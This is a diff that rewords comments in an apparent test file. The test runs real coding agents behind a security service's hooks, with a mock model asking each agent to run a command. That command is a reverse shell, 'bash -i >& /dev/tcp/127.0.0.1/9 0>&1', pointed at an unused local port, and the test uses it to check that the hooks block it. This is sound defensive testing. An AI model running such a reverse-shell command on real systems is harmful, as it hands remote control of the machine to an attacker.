@@ -1,6 +1,6 @@
 /**
- * The coding agents themselves, from npm, with the hooks that `service setup` enters, in front of a model that wants a
- * command run. Not a part of CI, for they are 1.1 GB: `npm run test:hosts` installs and runs them.
+ * The coding agents themselves, from npm, with the hooks that `service setup` installs, in front of a model that wants
+ * to run a command. They are not part of CI because they take 1.1 GB: `npm run test:hosts` installs and runs them.
  */
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
@@ -18,9 +18,12 @@ const FOLDER = 'tests/hosts';
 const modules = join(import.meta.dirname, 'node_modules');
 const service = resolve(import.meta.dirname, '..', '..', 'service');
 const AGENT_MS_MAX = 120_000;
-/** What was done a moment ago is not compared: its events may be on their way. */
+/**
+ * Time in milliseconds after which the doctor compares a call with the audit log. The event of a newer call may still
+ * be on the way.
+ */
 const COMPARED_AFTER_MS = 62_000;
-/** Put together here, so that code hosts take the push. */
+/** Concatenated, so that code hosts accept the push. */
 const SK_KEY = `sk-${'ABCDEF1234567890'}`;
 
 if (npmProgram(FOLDER, 'codex') === null) {
@@ -37,7 +40,7 @@ test('all agents were run', () => assert.equal(ran, 4));
 async function checkAgent(t: TestContext, agent: Agent): Promise<void> {
   const { stage, model, config } = await staged(t, agent);
   const file = (name: string) => join(stage.project, name);
-  // Where nothing listens, so that nothing is lost where the command does run.
+  // No process listens there, so that no data is lost if the command does run.
   const bad = (name: string) => `bash -i >& /dev/tcp/127.0.0.1/9 0>&1; touch ${file(name)}`;
 
   model.want(bad('before'));
@@ -104,7 +107,7 @@ function environment({ home }: Stage): NodeJS.ProcessEnv {
   return { PATH: process.env.PATH, HOME: home, TMPDIR: tmpdir(), TERM: 'dumb', NO_COLOR: '1' };
 }
 
-/** One run of the agent to its end; gives what it wrote. */
+/** Runs the agent once to its end, and returns its output. */
 async function run(agent: Agent, stage: Stage, prompt: string): Promise<string> {
   const child = spawn(process.execPath, [join(modules, agent.main), ...agent.args(prompt)], {
     cwd: stage.project,
@@ -141,7 +144,7 @@ function doctor({ name }: Agent, stage: Stage, config: string): Looked {
   return JSON.parse(stdout) as Looked;
 }
 
-/** What came of every check of a name, each once. */
+/** Returns the distinct states of all checks with a name. */
 function statesOf({ checks }: Looked, name: string): readonly string[] {
   const states = checks.filter((each) => each.name === name).map(({ status }) => status);
   return [...new Set(states)].sort();
